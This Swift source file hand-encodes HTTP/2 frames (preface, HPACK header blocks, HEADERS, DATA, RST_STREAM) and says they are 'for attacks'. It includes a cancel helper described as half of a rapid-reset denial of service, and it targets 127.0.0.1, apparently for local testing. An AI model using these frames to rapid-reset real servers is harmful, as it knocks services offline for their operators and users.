/// HTTP/2 frames written by hand (RFC 9113), for attacks: a request's header block needs no dynamic table.
enum HTTP2Frames {
    /// The client preface and an empty SETTINGS frame.
    static let preface: [UInt8] =
        Array("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".utf8) + frame(type: 4, flags: 0, stream: 0, [])

    static func frame(type: UInt8, flags: UInt8, stream: UInt32, _ payload: [UInt8]) -> [UInt8] {
        let length = UInt32(payload.count)
        return [UInt8(length >> 16 & 0xFF), UInt8(length >> 8 & 0xFF), UInt8(length & 0xFF), type, flags]
            + [UInt8(stream >> 24 & 0x7F), UInt8(stream >> 16 & 0xFF), UInt8(stream >> 8 & 0xFF), UInt8(stream & 0xFF)]
            + payload
    }

    /// A header block for `method path` (HPACK: indexed :scheme http, literals without indexing otherwise).
    static func requestBlock(method: String = "GET", path: String, extra: [(String, String)] = []) -> [UInt8] {
        var block: [UInt8] = method == "GET" ? [0x82] : [0x83]
        block += [0x86]
        block += literal(nameIndex: 1, "127.0.0.1")
        block += literal(nameIndex: 4, path)
        for (name, value) in extra {
            block += [0x00] + string(name) + string(value)
        }
        return block
    }

    private static func literal(nameIndex: UInt8, _ value: String) -> [UInt8] { [nameIndex] + string(value) }

    /// A string literal without Huffman coding (lengths up to 126 fit the one-byte prefix used here).
    private static func string(_ text: String) -> [UInt8] {
        let bytes = Array(text.utf8)
        precondition(bytes.count < 127, "a longer literal needs a multi-byte length")
        return [UInt8(bytes.count)] + bytes
    }

    /// HEADERS with END_HEADERS, and END_STREAM when `endStream`.
    static func headers(stream: UInt32, _ block: [UInt8], endStream: Bool = true) -> [UInt8] {
        frame(type: 1, flags: endStream ? 0x05 : 0x04, stream: stream, block)
    }

    /// RST_STREAM with CANCEL: the half of a rapid reset that costs the client nothing.
    static func cancel(stream: UInt32) -> [UInt8] { frame(type: 3, flags: 0, stream: stream, [0, 0, 0, 8]) }

    static func data(stream: UInt32, _ payload: [UInt8], endStream: Bool = false) -> [UInt8] {
        frame(type: 0, flags: endStream ? 0x01 : 0, stream: stream, payload)
    }
}
